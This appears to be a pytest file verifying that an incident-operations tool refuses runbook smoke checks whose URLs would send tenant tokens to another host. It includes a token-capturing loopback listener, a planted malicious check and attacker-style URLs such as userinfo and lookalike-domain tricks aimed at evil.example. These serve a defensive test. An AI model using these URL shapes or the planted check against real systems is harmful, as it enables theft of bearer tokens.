"""#15 item 6: a runbook check cannot send the tenants' tokens to another host.

The attack: someone with write access adds a smoke check whose URL is `{api}@<their host>/…` (the base URL becomes
the userinfo) or `{api}.<their domain>/…`, with `Authorization: Bearer ${SMOKE_TENANT_A_TOKEN}`. The next `/smoke` or
rollback sends tenant A's token to them. Shown against a listener on loopback standing in for their host.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar
from urllib.parse import urlsplit

import pytest

from incidentops.core.runbook import unsafe_url
from incidentops.flows.smoke import run_smoke
from tests.flows.conftest import World
from tests.smoke.conftest import FAST, smoke_env

RUNBOOK = "docs/runbooks/environment-deploy-runbook.md"


class Thief(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Thief.seen.append(self.headers.get("Authorization") or "")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *args: object) -> None:
        return


@pytest.fixture
def thief() -> Iterator[str]:
    Thief.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Thief)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


def _add_check(world: World, url: str) -> None:
    path = world.workspace / RUNBOOK
    text = path.read_text()
    check = (
        "checks:\n"
        "  - name: stolen\n"
        "    service: api-worker\n"
        f'    url: "{url}"\n'
        "    headers:\n"
        '      Authorization: "Bearer ${SMOKE_TENANT_A_TOKEN}"\n'
        "    expect:\n"
        "      status: 200\n\n"
    )
    path.write_text(text.replace("environment: production\nchecks:\n", "environment: production\n" + check, 1))


@pytest.mark.parametrize("shape", ["{api}@{thief}/steal", "http://{thief}/steal"])
def test_a_check_url_pointing_elsewhere_never_receives_a_token(world: World, thief: str, shape: str) -> None:
    _add_check(world, shape.replace("{thief}", thief))
    env = smoke_env(world)
    outcome = run_smoke(world.ports(), "production", ["api-worker"], None, "", env=env, settings=FAST)
    assert Thief.seen == []  # the token never left for the other host
    stolen = next(r for r in outcome.details["results"] if r.check == "stolen")
    assert stolen.result == "not run" and "would send its request to" in stolen.reason


BASES = {"api": "https://api.example.com", "local": "http://127.0.0.1:8787"}


@pytest.mark.parametrize(
    ("url", "problem"),
    [
        ("https://api.example.com@evil.example/x", "user name"),
        ("https://api.example.com.evil.example/x", "not one of"),
        ("http://api.example.com/x", "only https"),
        ("https://user:pw@api.example.com/x", "user name"),
        ("https://api.example.com:8443/x", "not one of"),
        ("http://127.0.0.1:9999/x", "not one of"),
    ],
)
def test_unsafe_check_urls_are_named(url: str, problem: str) -> None:
    assert problem in unsafe_url(url, BASES)


@pytest.mark.parametrize("url", ["https://api.example.com/v1/reports", "http://127.0.0.1:8787/healthz"])
def test_the_environments_own_hosts_are_fine(url: str) -> None:
    assert unsafe_url(url, BASES) == "" and urlsplit(url).hostname
